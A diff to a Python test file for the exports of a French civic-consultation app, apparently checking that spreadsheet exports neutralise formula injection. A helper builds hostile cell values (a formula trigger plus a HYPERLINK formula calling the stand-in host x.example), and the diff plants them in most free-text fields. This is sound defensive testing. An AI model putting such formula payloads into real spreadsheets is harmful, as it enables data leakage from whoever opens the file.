@@ -19,7 +19,7 @@ from collections.abc import Iterator
 
 import pytest
 from openpyxl import load_workbook
-from sqlmodel import Session
+from sqlmodel import Session, select
 
 from q2030 import audit, coverage, open_data
 from q2030 import priorities as p
@@ -31,6 +31,7 @@ from q2030.engagements import create_engagement
 from q2030.excel.exports import export_departement, export_national, workbook_bytes
 from q2030.excel.priorites import export_excel
 from q2030.excel.template import build_template
+from q2030.models import Contribution
 from q2030.rencontres import list_rencontres
 from q2030.safe_text import FORMULA_TRIGGERS
 from q2030.ui.coverage import COUNTS_COLUMNS, table_csv
@@ -48,7 +49,7 @@ def hostile(trigger: str, field: str) -> str:
     return f'{trigger}HYPERLINK("http://x.example/?{field}";"clic")'
 
 
-# free-text fields of a rencontre (lieu first: the factory sets it)
+# free-text fields of a rencontre
 RENCONTRE_FIELDS = ("lieu", "adresse", "commune_nom", "quartier_hors_qpv", "publics_precaires", "notes")
 
 
@@ -67,12 +68,16 @@ def hostile_campaign(session: Session) -> Session:
             lieu=hostile(trigger, "lieu"),
             date=dt.date(2023, 6, 10 + index),
         )
-        for field in RENCONTRE_FIELDS[1:]:
+        # Stored as is (the services strip a leading tab): what an older row may hold.
+        for field in RENCONTRE_FIELDS:
             setattr(meeting, field, hostile(trigger, field))
+        for contribution in session.exec(select(Contribution).where(Contribution.rencontre_id == meeting.id)):
+            contribution.texte = hostile(trigger, "contribution")
+            session.add(contribution)
         meeting.organisateurs = [hostile(trigger, "organisateurs")]
         session.add(meeting)
         cancelled = pf.rencontre(session, "93", [], statut="annulee", lieu=hostile(trigger, "lieu annulée"))
-        cancelled.motif_annulation = hostile(trigger, "motif")
+        cancelled.lieu, cancelled.motif_annulation = hostile(trigger, "lieu annulée"), hostile(trigger, "motif")
         session.add(cancelled)
         create_engagement(session, actor=REFERENT, departement_code="93", data={
             "titre": hostile(trigger, "titre"), "texte_public": hostile(trigger, "texte public"), "statut": "prevu",
